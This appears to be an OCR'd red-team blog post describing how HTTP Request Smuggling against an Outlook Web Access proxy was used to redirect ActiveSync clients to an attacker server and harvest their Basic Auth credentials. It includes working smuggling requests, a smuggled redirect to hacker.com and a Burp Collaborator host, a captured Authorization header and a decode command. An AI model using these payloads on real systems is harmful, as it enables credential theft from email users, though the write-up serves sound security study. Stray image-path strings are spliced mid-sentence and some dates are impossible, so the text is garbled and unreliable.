Harvesting credentials via HTTP Request Smuggling

Posted on by Tijme Gommers.

Exploiting public-facing services is one of the many ways to gain an initial foothold within a network. And it’s not uncommon to see this in the wild. Various adversaries are known to abuse vulnerabilities such as buffer overflows (G0098), SQL injections (G0087) or other (known) vulnerabilities with functional exploit code (G0016).

As a red team, it’s our task to simulate these adversaries. A red team engagement is a realistic simulation of an adversary that fits the threat profile of the customer. During thesimulation, we try to gain access to the crown jewels of the customer using techniques that are known to be used by the adversary. Note that these techniques are not limited to the abuse of technical vulnerabilities, but also include the business (e.g.password policies) and behavioural (e.g. social engineering) aspect. Red team engagements can be used to train blue teams in detecting and acting upon similar attacks, as well as to check how cyber resilient customers are against these attacks.

This blog describes an HTTP Request Smuggling (HRS) vulnerability that we identified during one of our engagements. It can be used to simulate exploiting public-facing services while gaining an initial foothold within the network of a customer. In our case it allowed us to harvest Active Directory credentials which we used to sign into Outlook Web Access (OWA) to view sensitive data.Afterwards, this blog post will go on to describe how to gain persistent access to OWA by migrating clients to a rogue man-in-the-middle Exchange server.

HTTP Request Smuggling

HTTP Request Smuggling (HRS) vulnerabilities are pretty common nowadays. In 2005 CGISecurity published a white paper that detailed how the vulnerability arises, what it can inflict and how it can be mitigated. If you’re not sure how HRS works, I highly recommended to read that white paper or PortSwigger’s blog post on HRS, to get yourself familiar. In short, HRS arises when a webserver and a proxy can be desynchronized. A threat actor can send a request that is interpreted differently in the frontend server than in the backend server. For instance, the threat actor sends a specially crafted request that is interpreted by the frontend server as 1 request, but is interpreted by the backend server as effectively 2 requests. The second request is thus “smuggled” past the frontend server and ends up at the backend server. This response on that request will then be served up to the next visitor, as James Kettle from PortSwigger describes, as James Kettle from PortSwigger describes.

Abusing HRS can greatly affect the confidentiality, integrity and availability of systems. As published in a responsible disclosure, Evan Custodio was able to take over Slack accounts by abusing HRS to steal cookies. Other examples include credential theft onNew Relic and user redirecting on the U.S. Dept Of Defense infrastructure.

In our case, HRS allowed us to harvest Active Directory credentials, which is described in the attack narrative below. This attack narrative includes the entire path, from zero to hero, just like we abused it during our engagement.

Attack narrative

Identifying proxied infrastructure

During an engagement for one of our customers, our goal was to get an initial foothold by penetrating their digital infrastructure. As automated scans did not yield results, we soon switched to manual research. Various services, including Outlook Web Access (OWA), were identified while brute-forcing subdomains using the tool GoBuster. The wordlist in use was generated by @bitquark and contains the 100.000 most frequently used subdomains.

$ gobuster dns -d customer.com -i -w ~/seclists/Discovery/DNS/bitquark-subdomains-top100000.txt --wildcard

Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Domain:            customer.com
[+] Threads:           10
[+] Show IPs:          true
[+] Wildcard forced:   true
[+] Timeout:           1s
[+] Wordlist:          ~/seclists/Discovery/DNS/bitquark-subdomains-top100000.txt
1337/07/16 15:30:59 Starting gobuster in DNS enumeration mode
Found: dev.customer.com [153.92.999.999]Found: www.customer.com [80.148.999.999]
Found: owa.customer.com [86.213.999.999] <-- Outlook Web Access (OWA)
-- snip --

While examining these services, we discovered that we were communicating with a proxy. There are several methods for detecting if a service runs behind a proxy. A commonly used technique for web applications is to send the following request to the applications, which contains another URI in the first line of the request.


GET https://actually-request-this-site.com/ HTTP/1.1
Host: owa.customer.com
User-Agent: Mozilla/4.0(compatible; MSIE 6.0; Windows NT5.1) Netscape/8.0.4

A regular webserver would generate a “421 Misdirected Request” response. An example is included below.


HTTP/1.1 421 Misdirected Request
Server: Apache
Content-Length: 322
Content-Type: text/html; charset=iso-8859-1

-- snip --
<p>The client needs a new connection for this request as the requested host name does not match the Server Name Indication (SNI) in use for this connection.</p>
-- snip --

However, when we ran this against owa.customer.com, the server returned the following response, a 302 Moved Temporarily. Back then, I personally thought this redirect was typical behaviour for an HTTP proxy. However, later it sank in to me that it should have been a 200 OK or 203 Non-Authoritative Information with the actual response body, as stated in RFC7230.HTTP/1.1 302 Moved Temporarily
Location: https://actually-request-this-site.com/owa/
Server: server1
X-FEServer: US-EXCH-008
-- snip --

Something that does however reveal that a proxy in use, is the Server header, with server1 as value. This is a non-default value for Microsoft IIS servers. By default, the value is Microsoft-IIS/8.5 (or another version). This indicates that, most likely, a proxy altered the response.

Now that we have the indication that owa.customer.com is proxied, we can continue with checking if it is vulnerable to HRS.

Identifying vulnerable proxy setups

With James Kettle’s research in mind, we set out to investigate whether this setup is potentially vulnerable to HRS. To identify if owa.customer.com is vulnerable to HRS, we sent the following request.

POST /owa/auth/logon.aspx?2whS=929722944 HTTP/1.1
 Transfer-Encoding: chunked
Connection: keep-alive
Host: owa.customer.com
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:75.0) Gecko/20100101 Firefox/75.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: nl,en-US;q=0.7,en;q=0.3
Accept-Encoding: gzip, deflate
Upgrade-Insecure-Requests: 1
Content-Type: application/x-www-form-urlencoded
Content-Length: 124


GET https://hacker.com/ HTTP/1.0
X-Ignore: 1

This request has a Content-Length of 124, which is the entire body. It will be posted to the proxy, which will use it to determine that the body is 124 bytes long. The request is then forwarded to the actual OWA service.

If this setup is vulnerable to HRS, OWA handles the request differently (using chunked encodinginstead of using the content length). Chunked encoding allows a client to send chunks of data in the body. In this case there is one chunk of data. This starts with the hexadecimal 44, which is 68 ifconverted to decimal. This is the length of the chunk body, which can be seen on the next line. After the 68 characters, the request is terminated with a chunk of size 0. This is a normal request that OWA accepts.

However, the part after the termination is left unprocessed. The OWA service will treat it as part of the next request sent by the proxy (possibly from another user).

This also works the other way around (if the proxy uses chunked encoding and OWA uses the content length). There are multiple ways infrastructures can be vulnerable to HRS. All of these ways are described in the blog of PortSwigger. Actually, the real trick that we used is that we inserted a space before the transfer encoding header; ` Transfer-Encoding: chunked. The proxy was unable to parse it and used the Content-Length to determine the body length. However, OWA *was* able to parse it and used the Transfer-Encoding` header to determine the body length.

When we executed the request above, we got the following response from the server.

HTTP/1.1 200 OK
Cache-Control: no-cache, no-store
Pragma: no-cache
Content-Type: text/html; charset=utf-8
Expires: -1
Server: server1
request-id: 59b59708-3551-44ec-8e05-1e8be2e11859
Set-Cookie: ClientId=MMEESFDUOFIVCMQNW; expires=Wed, 30-Mar-2022 20:57:55 GMT; path=/; HttpOnly
X-Frame-Options: SAMEORIGIN
X-AspNet-Version: 4.0.30319
X-Powered-By: ASP.NET
Date: Tue, 30 Mar 2021 20:57:54 GMTContent-Length: 28032

<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<!-- Copyright (c) 2011 Microsoft Corporation.  All rights reserved. -->
<!-- OwaPage = ASP.auth_logon_aspx -->
-- snip --

As can be seen, the response status is 200 OK, meaning our request was valid, and the server returned a valid response. At first, I thought this meant it did not interpret the second part of our body, as it would then have produced a 400 Bad Request response status. I thought that the proxy/OWA setup was most likely vulnerable. However, after additional research it turned out OWA accepts any arbitrary POST data.

A verification method with more certainty is to check if another user received the response on our request in the second part of the request body. As the request in the second part of our body normally returns a 301 Moved Permanently, another user should now have been redirected to the hacker.com domain, as that user got the redirect as a response on their request. To verify this, we checked the access log of hacker.com. The important part of it has been included below.

root@hacker:/home/tijme# tail -f/var/log/apache2/other_vhosts_access.log
hacker.com:443 52.12.999.999 - - [19/Dec/2091:12:09:29 +0200] "OPTIONS /Microsoft-Server-ActiveSync?Cmd=Options&User=alice@customer.com&DeviceId=e1568c571e684e0fb1724da85d215dc0&DeviceType=Outlook HTTP/1.1" 200 3473 "-" "Outlook-iOS-Android/1.0"

And indeed, it turns out it is vulnerable! One of the users got redirected to our hacker.com domain, which shows that the HRS request was executed successfully.

Looking at the access log I thought something interesting was happening though. In my opinion the victim should actually have made a GET request to the root or the /owa endpoint of hacker.com, instead of making an OPTIONS request to the Microsoft-Server-ActiveSync endpoint (as it was redirected). However, after looking through RFC7231 it became clear that aclient that receives a 301 Moved Permanently may maintain its request method and body for the subsequent request, just like a 308 Permanent Redirect (in which the client is required to maintain the request method and body).

All in all, this means it might be possible to capture more information from the user, which we will cover in the next chapters.

Gaining situational awareness

As seen in the access logs of hacker.com, the victim tried to perform a synchronization action using Microsoft-Server-ActiveSync. ActiveSync is an HTTP protocol which enables users to download mail from an Exchange server, instead of using OWA which only enables the user to view mail in a web client.

A normal synchronization flow

One can configure ActiveSync in various mail clients, such as Apple Mail. As can be seen in Apple’s manual for connecting to an ActiveSync endpoint, users have to provide a server, domain, username and password. These details will most likely be sent to the server via HTTP requests. Either during configuration or in every request.

When the credentials are sent to the server actually depends on the type of authentication configured in Exchange. Common types of authentication are “Modern Authentication”, which uses the SAML protocol and therefore generates an authentication token after initial authentication with username and password. The authentication type “Basic Auth” is a method of authenticating by sending a username and password (base64 encoded) in every HTTP request.

Are you starting to get excited yet? If an Exchange server is configured to use ActiveSync with Basic Auth, users are sending username and passwords in every single HTTP request. As we are able to perform HRS, we might be able to intercept these credentials!

Harvesting and (ab)using credentials

We currently know that a successful HRS attack can redirect a victim to a rogue server, that mail clients maintain therequest method and most likely also the headers and body, and we know that victims sent their base64 encoded credentials in every ActiveSync request. This means we’re just one step away from capturing these credentials.

Capturing request headers on our rogue server can be done in various ways. For this proof-of-concept I chose to use Burp Collaborator, which acts as a catch all server for HTTP and various other protocols.

I altered the initial HRS request to redirect the victim to my Burp Collaborator URI instead of hacker.com. The final request is included below

POST /owa/auth/logon.aspx?2whS=929722944 HTTP/1.1
 Transfer-Encoding: chunked
Connection: keep-alive
Host: owa.customer.com
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:75.0) Gecko/20100101 Firefox/75.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: nl,en-US;q=0.7,en;q=0.3
Accept-Encoding: gzip, deflate
Upgrade-Insecure-Requests: 1Content-Type: application/x-www-form-urlencoded
Content-Length: 165


GET https://xcdf8ar1e2dnaqc1t7ebdyt8gzp5e.burpcollaborator.net/ HTTP/1.1
X-Ignore: 1

A few moments later, as expected, Burp Collaborator catches the ActiveSync request from the victim .

POST /Microsoft-Server-ActiveSync?User=bob@customer.com&DeviceId=e1568c571e684e0fb1724da85d215dc0&DeviceType=iPhone&Cmd=FolderSync  HTTP/1.1
Host: xcdf8ar1e2dnaqc1t7ebdyt8gzp5e.burpcollaborator.net
Content-Type: application/vnd.ms-sync.wbxml
Accept: */*
Accept-Language: nl-nl
Accept-Encoding: gzip, deflate, br
Connection: keep-alive
MS-ASProtocolVersion: 14.1
User-Agent: Apple-iPhone11C8/1804.70Authorization: Basic Y3VzdG9tZXIuY29tXGJvYjpodW50ZXIy
Content-Lengh: 13
X-MS-PolicyKey: 0


We have successfully captured the Authorization header which contains the encoded credentials of the victim.

$ echo Y3VzdG9tZXIuY29tXGJvYjpodW50ZXIy | base64 -D

The HRS attack is visualized in the figure below.

A malicious synchronization flow

Permanently migrating the victims’ mailbox to our rogue exchange server

The undocumented feature

As a red team, we would like to delve deeper into the possible impact of this finding. For this reason, we looked for further options from a threat actor’s point of view, the most notable of which was to gain permanent access to the victims’ credentials. It turns out that ActiveSync has a ‘feature’ to automatically update the configuration of mail clients if the mailbox of the user was migrated from on premises to Office365. This feature works as follows (and as demonstrated in the visual).

